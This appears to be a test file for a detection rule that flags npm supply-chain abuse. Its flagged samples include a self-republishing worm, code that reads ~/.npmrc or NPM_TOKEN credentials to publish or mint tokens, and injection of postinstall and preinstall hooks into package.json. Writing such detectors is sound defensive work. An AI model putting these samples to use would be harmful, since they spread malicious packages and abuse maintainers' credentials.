import rule from '../../rules/registry-publish.js';
import { ruleTester } from '../rule-tester.js';

ruleTester(rule, {
  valid: [
    'const fs = require("fs"), { execSync } = require("child_process");\nconst pkg = JSON.parse(fs.readFileSync("package.json", "utf8"));\npkg.version = next;\nfs.writeFileSync("package.json", JSON.stringify(pkg));\nexecSync("npm publish");',
    'const { execSync } = require("child_process");\nexecSync("npm publish --access public");',
    'const token = process.env.NPM_TOKEN;\nfetch("https://registry.npmjs.org/-/whoami", { headers: { authorization: `Bearer ${token}` } });',
    'const fs = require("fs");\nconst pkg = JSON.parse(fs.readFileSync("package.json", "utf8"));\npkg.scripts.test = "node --test";\nfs.writeFileSync("package.json", JSON.stringify(pkg, null, 2));',
    'const pkg = require("./package.json");\nconsole.log(pkg.scripts.postinstall);',
    'const config = { scripts: { postinstall: "node build.js" } };\nconsole.log(JSON.stringify(config));',
    '// npm publish with NPM_TOKEN\nconst help = "set NPM_TOKEN and run npm publish";',
  ],
  invalid: [
    { name: 'a worm renames its manifest and publishes (GuardDog sample)', code: 'const fs = require("fs");\nconst { exec } = require("child_process");\nfunction propagate() {\n  let packageData = JSON.parse(fs.readFileSync("package.json"));\n  packageData.name = `pkg-${Math.floor(Math.random() * 100000)}-worm`;\n  fs.writeFileSync("package.json", JSON.stringify(packageData, null, 2));\n  exec("npm publish --access public", (error) => { if (!error) setTimeout(propagate, 7000); });\n}\npropagate();', errors: [{ messageId: 'republish', line: 7, column: 3 }] },
    {
      code: 'const { execSync } = require("child_process"), fs = require("fs"), os = require("os");\nconst rc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");\nexecSync("npm publish --access public");',
      errors: [{ messageId: 'publish', line: 3, column: 1, message: '.npmrc' }],
    },
    {
      code: 'const cp = require("child_process");\nconst t = process.env.NPM_TOKEN;\ncp.execSync(`npm config set //registry.npmjs.org/:_authToken ${t}`);\ncp.spawnSync("npm", ["publish"]);',
      errors: [{ messageId: 'publish', line: 4, column: 1, message: 'NPM_TOKEN' }],
    },
    {
      code: 'const axios = require("axios");\nconst token = process.env.NODE_AUTH_TOKEN;\naxios.put("https://registry.npmjs.org/" + name, doc, { headers: { authorization: "Bearer " + token } });',
      errors: [{ messageId: 'registryWrite', line: 3, column: 1, message: 'PUT' }],
    },
    {
      code: 'const token = process.env.NPM_TOKEN;\nfetch("https://registry.npmjs.org/-/npm/v1/tokens", { method: "POST", headers: { authorization: "Bearer " + token }, body: "{}" });',
      errors: [{ messageId: 'registryWrite', line: 2, column: 1 }],
    },
    {
      code: 'const fs = require("fs");\nconst pkg = JSON.parse(fs.readFileSync(file, "utf8"));\npkg.scripts.postinstall = "node bundle.js";\nfs.writeFileSync(dir + "/package.json", JSON.stringify(pkg));',
      errors: [{ messageId: 'scriptsRewrite', line: 3, column: 1, message: 'postinstall' }],
    },
    {
      code: 'const fs = require("fs");\nconst pkg = require("./package.json");\npkg.scripts = { ...pkg.scripts, preinstall: "node x.js" };\nfs.writeFileSync("package.json", JSON.stringify(pkg));',
      errors: [{ messageId: 'scriptsRewrite', line: 3, column: 1, message: 'preinstall' }],
    },
    {
      code: 'const { publish } = require("libnpmpublish");\nconst npmrc = require("fs").readFileSync(".npmrc", "utf8");\npublish(manifest, tarball, { token: npmrc.match(/_authToken=(.*)/)[1] });',
      errors: [{ messageId: 'publish', line: 3, column: 1 }],
    },
  ],
});
